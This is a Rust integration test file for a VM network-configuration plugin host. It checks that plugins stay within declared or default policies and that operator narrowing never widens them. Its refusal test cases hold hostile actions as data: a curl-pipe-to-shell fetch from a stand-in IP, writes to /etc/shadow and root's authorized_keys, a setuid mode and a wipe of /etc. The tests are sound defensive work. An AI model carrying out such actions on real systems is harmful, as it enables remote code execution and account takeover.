//! Guest-side policies through the real host: plugins of contract 0.2.0
//! and later are held to what they declare, contract 0.1.0 plugins to the
//! documented default, every version served by one host at once, and the
//! operator's narrowing applies on top. Contract 0.3.0's `name-link` and
//! `parents` are planned and rendered from a real component.

use std::collections::BTreeMap;
use std::path::Path;

use fixup_core::classify::Scenario;
use fixup_core::facts::Flavor;
use fixup_core::plan::policy::{Breach, GuestPolicy, PolicySource, RawPolicy, Rule};
use fixup_core::plan::{Field, Phase, Plan, PlanError, Problem, ScriptHeader, StepAction};
use fixup_core::plugin::{EngineOptions, PluginError, PluginHost};
use fixup_kit::Inspector;
use fixup_tests::facts;
use rstest::rstest;

const NIC: [(&str, Option<&str>); 1] = [("52:54:00:aa:bb:01", Some("10.0.0.5/24"))];

fn host(options: EngineOptions) -> PluginHost {
    let mut host = PluginHost::new(options).expect("engine");
    host.load_builtins().expect("built-ins load");
    host.load_file(Path::new(env!("PLUGIN_LEGACY")))
        .expect("a contract 0.1.0 plugin loads");
    host.load_file(Path::new(env!("PLUGIN_OVERREACH")))
        .expect("a plugin that overreaches only when called loads");
    host.load_file(Path::new(env!("PLUGIN_CONTRACT_0_2")))
        .expect("a contract 0.2.0 plugin loads");
    host.load_file(Path::new(env!("PLUGIN_CONTRACT_0_3")))
        .expect("a contract 0.3.0 plugin loads");
    host.load_file(Path::new(env!("PLUGIN_IFUPDOWN")))
        .expect("a plugin that names links loads");
    host
}

/// Plan `scenario` for a VM named `name` of `flavor` with whichever plugin
/// the registry picks.
fn plan(host: &PluginHost, flavor: Option<&str>, name: &str) -> Result<usize, PluginError> {
    plan_with(host, flavor, name, &NIC).map(|plan| plan.steps.len())
}

fn plan_with(
    host: &PluginHost,
    flavor: Option<&str>,
    name: &str,
    nics: &[(&str, Option<&str>)],
) -> Result<Plan, PluginError> {
    let selection = host
        .registry()
        .select(
            Scenario::OciNetworkd,
            flavor.map(|f| Flavor::parse(f).expect("flavour")).as_ref(),
        )
        .expect("a plugin serves it");
    host.plan(
        &selection.plugin,
        Scenario::OciNetworkd,
        &facts(name, flavor, nics),
    )
    .map(|(plan, _)| plan)
}

fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| (*s).to_owned()).collect()
}

#[test]
fn every_contract_version_is_served_at_once() {
    let host = host(EngineOptions::default());
    let contracts: BTreeMap<&str, (&str, PolicySource)> = host
        .registry()
        .plugins()
        .iter()
        .map(|p| (p.info.name.as_str(), (p.contract(), p.policy_source)))
        .collect();
    assert_eq!(
        contracts["legacy"],
        ("0.1.0", PolicySource::ContractDefault)
    );
    assert_eq!(contracts["contract-0-2"], ("0.2.0", PolicySource::Declared));
    assert_eq!(contracts["contract-0-3"], ("0.3.0", PolicySource::Declared));
    assert_eq!(contracts["oci-networkd"], ("0.4.0", PolicySource::Declared));
    // Each plans, inside its policy, from the same host.
    assert_eq!(
        plan(&host, Some("legacy"), "web-0").expect("legacy plans"),
        2
    );
    // The 0.2.0 plugin's plan arrives as it was made: no parents, its facts
    // intact (the MAC of the VM's NIC in its file).
    let old = plan_with(&host, Some("contract-0-2"), "web-0", &NIC).expect("0.2.0 plans");
    assert_eq!(old.steps.len(), 2);
    let StepAction::WriteFile(w) = &old.steps[0].action else {
        panic!("{old:?}")
    };
    assert!(!w.parents);
    assert!(
        w.content.contains("MACAddress=52:54:00:aa:bb:01\n"),
        "{w:?}"
    );
    assert!(plan(&host, None, "web-0").expect("built-in plans") >= 4);
    assert!(plan(&host, Some("overreach"), "web-0").expect("inside its policy") >= 4);
    // The 0.3.0 plugin's plan arrives whole: its link step and a write
    // with parents, in its phases.
    let v3 = plan_with(&host, Some("contract-0-3"), "web-0", &NIC).expect("0.3.0 plans");
    assert!(
        matches!(&v3.steps[0].action, StepAction::NameLink(l) if l.name == "eth0"),
        "{v3:?}"
    );
    assert!(
        matches!(&v3.steps[1].action, StepAction::WriteFile(w) if w.parents),
        "{v3:?}"
    );
}

/// A plugin of an older contract is never asked to prepare: its contract
/// has no such scenario, and the host says so rather than calling it.
#[test]
fn an_older_contract_is_never_asked_to_prepare() {
    let host = host(EngineOptions::default());
    for name in ["legacy", "contract-0-2", "contract-0-3"] {
        let plugin = host
            .registry()
            .plugins()
            .iter()
            .find(|p| p.info.name == name)
            .expect("loaded")
            .clone();
        assert!(!plugin.info.scenarios.contains(&Scenario::Prepare));
        let mut parent = facts("web-0", Some(name), &NIC);
        parent.boot = fixup_core::facts::BootKind::Parent;
        let refused = host
            .plan(&plugin, Scenario::Prepare, &parent)
            .expect_err("no prepare in an older contract")
            .to_string();
        assert!(
            refused.contains("has no prepare scenario") && refused.contains(plugin.contract()),
            "{name}: {refused}"
        );
    }
}

#[rstest]
#[case::password_file("shadow", Rule::Write("/etc/shadow".into()))]
#[case::shell("shell", Rule::Run(strings(&["sh", "-c", "true"])))]
fn a_contract_0_1_plugin_is_held_to_the_default_policy(#[case] name: &str, #[case] rule: Rule) {
    let host = host(EngineOptions::default());
    let err = plan(&host, Some("legacy"), name).expect_err("outside the default policy");
    match &err {
        PluginError::Policy { plugin, by, breach } => {
            assert_eq!(plugin, "legacy");
            assert_eq!(by, "the default policy of its contract version");
            assert_eq!(*breach, Breach { step: 1, rule });
        }
        other => panic!("unexpected: {other:?}"),
    }
    assert!(
        err.to_string().contains("plugin legacy planned what"),
        "{err}"
    );
}

#[rstest]
#[case::password_file("shadow", Rule::Write("/etc/shadow".into()))]
#[case::ssh_keys("keys", Rule::Write("/root/.ssh/authorized_keys".into()))]
#[case::setuid("setuid", Rule::Mode { path: "/etc/systemd/network/10-x.network".into(), mode: 0o4777 })]
#[case::wipe("wipe", Rule::Remove("/etc/*".into()))]
#[case::curl_pipe_sh("curl", Rule::Run(strings(&["sh", "-c", "curl -s http://192.0.2.1/x | sh"])))]
#[case::undeclared_restart("sshd", Rule::Run(strings(&["systemctl", "restart", "sshd"])))]
fn a_plan_past_the_declared_policy_is_refused(#[case] name: &str, #[case] rule: Rule) {
    let host = host(EngineOptions::default());
    match plan(&host, Some("overreach"), name) {
        Err(PluginError::Policy { plugin, by, breach }) => {
            assert_eq!(plugin, "overreach");
            assert_eq!(by, "its declared policy");
            assert_eq!(breach, Breach { step: 1, rule });
        }
        other => panic!("unexpected: {other:?}"),
    }
}

fn narrowing(raw: RawPolicy) -> EngineOptions {
    let policy = GuestPolicy::parse(&raw).expect("well formed");
    EngineOptions {
        narrowing: BTreeMap::from([("oci-networkd".to_owned(), policy)]),
        ..EngineOptions::default()
    }
}

#[test]
fn the_operator_narrows_a_built_in() {
    // Everything the built-in does but the hostname.
    let host = host(narrowing(RawPolicy {
        writes: strings(&[
            "/proc/sys/vm/drop_caches",
            "/etc/systemd/network/10-*.network",
        ]),
        removes: strings(&["/etc/systemd/network/10-*.network"]),
        runs: vec![strings(&["systemctl", "restart", "systemd-networkd"])],
        special_modes: false,
        links: Vec::new(),
    }));
    match plan(&host, None, "web-0") {
        Err(PluginError::Policy { plugin, by, breach }) => {
            assert_eq!(plugin, "oci-networkd");
            assert!(by.contains("plugin_policy.oci-networkd"), "{by}");
            assert_eq!(breach.rule, Rule::Write("/etc/hostname".into()));
        }
        other => panic!("unexpected: {other:?}"),
    }
    // Other plugins are not narrowed.
    plan(&host, Some("legacy"), "web-0").expect("legacy is not narrowed");
}

#[test]
fn a_narrowing_never_widens() {
    let mut options = narrowing(RawPolicy::default());
    options.narrowing = BTreeMap::from([(
        "overreach".to_owned(),
        GuestPolicy::parse(&RawPolicy {
            writes: strings(&["/**"]),
            removes: strings(&["/**"]),
            runs: vec![strings(&["*"])],
            special_modes: true,
            links: Vec::new(),
        })
        .expect("well formed"),
    )]);
    let host = host(options);
    for name in ["shadow", "setuid", "curl"] {
        match plan(&host, Some("overreach"), name) {
            Err(PluginError::Policy { by, .. }) => assert_eq!(by, "its declared policy"),
            other => panic!("{name}: unexpected: {other:?}"),
        }
    }
}

#[test]
fn a_narrowing_for_no_loaded_plugin_is_reported() {
    let host = host(narrowing(RawPolicy::default()));
    assert!(host.unused_narrowings().is_empty());
    let mut options = EngineOptions::default();
    options
        .narrowing
        .insert("oci_networkd".to_owned(), GuestPolicy::default());
    assert_eq!(self::host(options).unused_narrowings(), ["oci_networkd"]);
}

#[test]
fn a_narrowing_that_covers_the_plan_changes_nothing() {
    let host = host(narrowing(RawPolicy {
        writes: strings(&["/proc/sys/vm/*", "/etc/hostname", "/etc/systemd/network/**"]),
        removes: strings(&["/etc/systemd/network/**"]),
        runs: vec![strings(&["systemctl", "*"])],
        special_modes: false,
        links: Vec::new(),
    }));
    assert!(plan(&host, None, "web-0").expect("inside both") >= 4);
}

fn inspect(file: &str) -> fixup_kit::Inspection {
    Inspector::new(EngineOptions::default(), None)
        .expect("inspector")
        .inspect(Path::new(file))
}

#[test]
fn inspect_shows_the_default_policy_of_a_contract_0_1_plugin() {
    let found = inspect(env!("PLUGIN_LEGACY"));
    assert!(found.accepted, "{found}");
    assert_eq!(found.contract.as_deref(), Some("cocoon:fixup@0.1.0"));
    let policy = found.policy.as_ref().expect("policy");
    assert_eq!(policy.source, PolicySource::ContractDefault);
    assert_eq!(policy.policy, GuestPolicy::contract_0_1_default());
    let text = found.to_string();
    assert!(text.contains("the default for its contract"), "{text}");
    assert!(
        text.contains("rebuild against cocoon:fixup@0.4.0"),
        "{text}"
    );
    assert!(
        text.contains("  writes   /etc/systemd/network/10-*.network\n"),
        "{text}"
    );
    assert!(text.contains("  modes    within 0755\n"), "{text}");
    assert!(text.contains("cocoon:fixup/types@0.1.0"), "{text}");
}

#[test]
fn inspect_shows_a_declared_policy_and_warns_about_unbounded_runs() {
    let found = inspect(env!("PLUGIN_OVERREACH"));
    let text = found.to_string();
    assert!(
        text.contains("policy     declared by the plugin\n"),
        "{text}"
    );
    assert!(
        text.contains("  runs     systemctl restart systemd-networkd\n"),
        "{text}"
    );
    assert!(!text.contains("warning"), "{text}");

    let hostile = inspect(env!("PLUGIN_HOSTILE"));
    let policy = hostile.policy.as_ref().expect("policy");
    assert_eq!(policy.warnings.len(), 3, "{:?}", policy.warnings);
    assert!(policy.warnings[0].starts_with("`*` leaves the arguments open"));
    assert!(policy.policy.special_modes);
    let text = hostile.to_string();
    assert!(
        text.contains("  warning: write pattern /** covers /etc/shadow"),
        "{text}"
    );
    assert!(text.contains("  modes    any (special-modes)\n"), "{text}");

    let json = serde_json::to_value(&found).expect("json");
    assert_eq!(json["policy"]["source"], "declared");
    assert_eq!(
        json["policy"]["runs"][0],
        serde_json::json!(["systemctl", "restart", "systemd-networkd"])
    );
}

const TWO_NICS: [(&str, Option<&str>); 2] = [
    ("52:54:00:aa:bb:01", Some("10.0.0.5/24")),
    ("52:54:00:aa:bb:02", None),
];

#[test]
fn an_ifupdown_plugin_names_its_nics_and_writes_with_parents() {
    let host = host(EngineOptions::default());
    let plan = plan_with(&host, Some("ifupdown"), "web-0", &TWO_NICS).expect("inside its policy");
    let links: Vec<(String, &str, Phase)> = plan
        .steps
        .iter()
        .filter_map(|s| match &s.action {
            StepAction::NameLink(l) => Some((l.mac.to_string(), l.name.as_str(), s.phase)),
            _ => None,
        })
        .collect();
    assert_eq!(
        links,
        [
            ("52:54:00:aa:bb:01".to_owned(), "eth0", Phase::Link),
            ("52:54:00:aa:bb:02".to_owned(), "eth1", Phase::Link),
        ]
    );
    let StepAction::WriteFile(w) = &plan.steps[2].action else {
        panic!("{plan:?}")
    };
    assert_eq!(w.path, "/etc/network/interfaces");
    assert!(w.parents);
    assert!(
        w.content.contains("auto eth1\niface eth1 inet dhcp\n"),
        "{w:?}"
    );
    // Rendered by the host: each link found by its MAC under
    // /sys/class/net, the parent directory made before the write.
    let script = fixup_core::plan::render_script(&plan, &ScriptHeader::default());
    assert_eq!(script.matches("for d in /sys/class/net/*; do").count(), 2);
    assert!(
        script.contains(
            "(mac=52:54:00:aa:bb:02 name=eth1 links='52:54:00:aa:bb:01 52:54:00:aa:bb:02' cur=\n"
        ),
        "{script}"
    );
    assert!(
        script.contains(
            "(umask go-w && mkdir -p -- /etc/network) && (umask 0133 && printf '%s' 'auto lo"
        ),
        "{script}"
    );
    let exec = fixup_core::plan::render_exec(&plan);
    assert!(exec[2].contains("ip link set dev \"$cur\" name \"$name\""));
}

#[test]
fn name_link_of_a_foreign_mac_is_refused() {
    let host = host(EngineOptions::default());
    match plan_with(&host, Some("ifupdown"), "foreign", &TWO_NICS) {
        Err(err @ PluginError::BadPlan { .. }) => {
            let PluginError::BadPlan { plugin, source } = &err else {
                unreachable!()
            };
            assert_eq!(plugin, "ifupdown");
            assert!(matches!(
                source,
                PlanError::Invalid {
                    step: 1,
                    field: Field::LinkMac,
                    problem: Problem::ForeignMac(_)
                }
            ));
            assert!(
                err.to_string()
                    .contains("02:00:00:00:00:99 is not one of the VM's NICs"),
                "{err}"
            );
        }
        other => panic!("unexpected: {other:?}"),
    }
}

#[test]
fn name_link_outside_links_is_refused() {
    let host = host(EngineOptions::default());
    match plan_with(&host, Some("ifupdown"), "wlan", &TWO_NICS) {
        Err(PluginError::Policy { plugin, by, breach }) => {
            assert_eq!(plugin, "ifupdown");
            assert_eq!(by, "its declared policy");
            assert_eq!(
                breach,
                Breach {
                    step: 1,
                    rule: Rule::Link {
                        mac: "52:54:00:aa:bb:01".into(),
                        name: "wlan0".into()
                    }
                }
            );
        }
        other => panic!("unexpected: {other:?}"),
    }
}

#[test]
fn the_operator_narrows_links() {
    let raw = |links: &[&str]| RawPolicy {
        writes: strings(&["/etc/network/interfaces"]),
        runs: vec![strings(&["rc-service", "networking", "restart"])],
        links: strings(links),
        ..RawPolicy::default()
    };
    let narrowed = |links: &[&str]| {
        let mut options = EngineOptions::default();
        options.narrowing.insert(
            "ifupdown".to_owned(),
            GuestPolicy::parse(&raw(links)).expect("well formed"),
        );
        host(options)
    };
    // Only eth0: the second NIC's name is refused by the operator.
    match plan_with(&narrowed(&["eth0"]), Some("ifupdown"), "web-0", &TWO_NICS) {
        Err(PluginError::Policy { by, breach, .. }) => {
            assert!(by.contains("plugin_policy.ifupdown"), "{by}");
            assert_eq!(breach.step, 2);
            assert!(matches!(breach.rule, Rule::Link { ref name, .. } if name == "eth1"));
        }
        other => panic!("unexpected: {other:?}"),
    }
    // No links key: no link may be named.
    assert!(matches!(
        plan_with(&narrowed(&[]), Some("ifupdown"), "web-0", &TWO_NICS),
        Err(PluginError::Policy { .. })
    ));
    // A wider narrowing never widens: wlan0 stays outside the plugin's own.
    match plan_with(&narrowed(&["*"]), Some("ifupdown"), "wlan", &TWO_NICS) {
        Err(PluginError::Policy { by, .. }) => assert_eq!(by, "its declared policy"),
        other => panic!("unexpected: {other:?}"),
    }
    plan_with(&narrowed(&["eth*"]), Some("ifupdown"), "web-0", &TWO_NICS).expect("inside both");
}

#[test]
fn inspect_shows_links() {
    let found = inspect(env!("PLUGIN_IFUPDOWN"));
    assert!(found.accepted, "{found}");
    assert_eq!(found.contract.as_deref(), Some("cocoon:fixup@0.4.0"));
    let text = found.to_string();
    assert!(text.contains("  links    eth*\n"), "{text}");
    let json = serde_json::to_value(&found).expect("json");
    assert_eq!(json["policy"]["links"], serde_json::json!(["eth*"]));
    let old = inspect(env!("PLUGIN_CONTRACT_0_2"));
    assert!(old.accepted, "{old}");
    assert_eq!(old.contract.as_deref(), Some("cocoon:fixup@0.2.0"));
    assert!(old.to_string().contains("  links    (none)\n"), "{old}");
}
